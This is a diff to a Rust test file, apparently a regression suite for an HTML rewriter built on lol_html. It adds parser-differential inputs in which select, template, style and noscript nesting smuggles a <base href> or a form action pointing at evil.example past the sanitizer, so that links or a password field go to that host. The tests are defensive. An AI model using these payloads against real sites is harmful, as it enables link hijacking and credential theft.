@@ -300,6 +300,10 @@ fn the_pages_of_issue_27_leak_under_no_reading() {
         r#"<select><noscript></select><base href="//evil.example/"></noscript><a href="next">n</a>"#,
         r#"<select><svg><![CDATA[></select><base href="//evil.example/">]]></svg></select><a href="next">n</a>"#,
         r#"<select><math><mtext><style></select><base href="//evil.example/"></style></select><a href="next">n</a>"#,
+        // lol_html closes the <select> at </div>, the "in select" mode does not (the end tag
+        // is written in); a <template> inside a select hides a </select> from that mode.
+        r#"<div><select></div><style></select><base href="//evil.example/"></style><a href="next">n</a>"#,
+        r#"<select><template></select><style></template></select><base href="//evil.example/"></style><a href="next">n</a>"#,
         // A browser without JavaScript reads <noscript> content as markup.
         r#"<noscript><form action="https://evil.example/"></noscript><form method="post"><input name="pw"></form>"#,
         r#"<noscript><!--</noscript><form method="post"><input name="pw"></form><a href="/next">n</a>-->"#,
